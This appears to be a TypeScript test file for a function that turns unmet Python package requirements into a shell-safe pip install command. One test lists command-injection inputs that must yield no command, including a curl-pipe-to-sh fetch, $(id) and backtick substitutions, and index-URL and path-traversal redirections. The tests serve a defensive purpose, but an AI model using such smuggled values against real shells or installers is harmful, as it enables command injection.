import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { describe, it } from 'node:test'
import { textsOfProblem } from './problem-texts.ts'

const commandFor = (requirement: string, installed = `${/^[\w.-]*/.exec(requirement)?.[0]} 1`) =>
  textsOfProblem({ kind: 'requirement_unmet', requirement, installed }, String).remedy?.command

describe('the remedy of a problem', () => {
  it('is a command for the shells of all systems', () => {
    assert.equal(commandFor('pillow'), 'python -m pip install pillow')
    assert.equal(commandFor('numpy<1.27,>=1.22'), 'python -m pip install "numpy<1.27,>=1.22"')
    assert.equal(commandFor('gradio[oauth] ~= 4.0'), 'python -m pip install "gradio[oauth] ~= 4.0"')
    assert.equal(commandFor('torch!=2.1.*'), 'python -m pip install "torch!=2.1.*"')
    assert.equal(commandFor('numpy<2.3; python_version >= "3.9"'), 'python -m pip install "numpy<2.3"')
  })

  it('reaches pip as one requirement when it is pasted into a shell', () => {
    for (const requirement of ['pillow', 'numpy<1.27,>=1.22', 'gradio[oauth] ~= 4.0', 'torch!=2.1.*']) {
      const script = `python() { printf '%s\\n' "$@"; }\n${commandFor(requirement)}`
      const given = execFileSync('sh', ['-c', script], { encoding: 'utf8' }).trimEnd().split('\n')
      assert.deepEqual(given, ['-m', 'pip', 'install', requirement])
    }
  })

  it('is no command where a stranger could say more than a requirement', () => {
    for (const requirement of [
      'numpy @ https://files.test/numpy.whl',
      'numpy<2 --index-url https://files.test',
      '--index-url=https://files.test',
      '-r',
      'numpy<2"; curl files.test | sh; "',
      'numpy<2$(id)',
      'numpy<2`id`',
      'numpy<2 & calc',
      'numpy<%PATH%',
      'numpy<2\nid',
      './evil',
      '../evil.whl',
      'numpy\u202e<2',
      'numpy<1.27 and >=1.22',
    ])
      assert.equal(commandFor(requirement), undefined, requirement)
  })

  it('is no command for a package that is not installed', () => {
    assert.equal(commandFor('nunpy<2', 'numpy 2.2.3'), undefined)
    assert.equal(
      commandFor('Huggingface_Hub<1', 'huggingface-hub 1.0'),
      'python -m pip install "Huggingface_Hub<1"',
    )
  })

  it('replaces the other packages of OpenCV', () => {
    const { remedy } = textsOfProblem(
      { kind: 'module_missing', module: 'cv2', symbol: 'ximgproc', package: 'opencv-contrib-python' },
      String,
    )
    assert.deepEqual(remedy?.command?.split('\n'), [
      'python -m pip uninstall -y opencv-python opencv-python-headless opencv-contrib-python opencv-contrib-python-headless',
      'python -m pip install --upgrade opencv-contrib-python',
    ])
  })

  it('is to install the requirements of the pack where the package is not known', () => {
    const { remedy } = textsOfProblem({ kind: 'module_missing', module: 'clip', folder: 'A' }, String)
    assert.deepEqual(remedy, { key: 'remedy_requirements', values: {} })
  })
})
